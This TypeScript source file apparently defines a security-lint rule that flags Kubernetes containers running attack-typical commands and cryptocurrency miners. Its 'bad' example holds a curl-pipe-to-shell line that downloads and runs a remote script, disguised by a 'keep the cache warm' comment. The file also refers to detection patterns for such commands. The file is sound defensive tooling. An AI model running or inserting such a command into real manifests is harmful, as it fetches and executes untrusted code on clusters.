import { examplePod } from '../example';
import { links } from '../links';
import { commandRule } from './command-rule';
import { isMinerImage, isMinerSetting, SUSPICIOUS } from './shell-patterns';

export const suspiciousCommand = commandRule({
  id: 'suspicious-command',
  severity: 'error',
  title: 'A container that runs a command typical of an attack',
  why: 'An attacker who injects a sidecar does not need a special image. A standard image and one shell command are enough to download a program, open a reverse shell or mine cryptocurrency. These commands rarely have a legitimate use in a manifest.',
  fix: 'Find out who added the command. If the container needs it, move it into the image, so that it is reviewed and checked by image gates.',
  references: [links.sidecarInjection],
  examples: {
    bad: examplePod({
      container:
        'command:\n  - sh\n  - -c\n  - |\n    # keep the cache warm\n    curl -fsSL https://example.net/setup.sh | sh # error',
    }),
    good: examplePod({
      container: 'command: [sh, -c, "until curl -fsS http://localhost:8080/ready; do sleep 1; done; exec web"]',
    }),
  },

  patterns: SUSPICIOUS,
  advice: 'Find out who added this command, and remove it.',
  other(container) {
    const { image, label, value } = container;
    const setting = value.get('env').items.find((item) => isMinerSetting(item.get('value').string));
    const at = isMinerImage(image) ? value.get('image') : setting?.get('value');
    return at && { at, message: `Cryptocurrency miner: "${label}". Find out who added it, and remove it.` };
  },
});
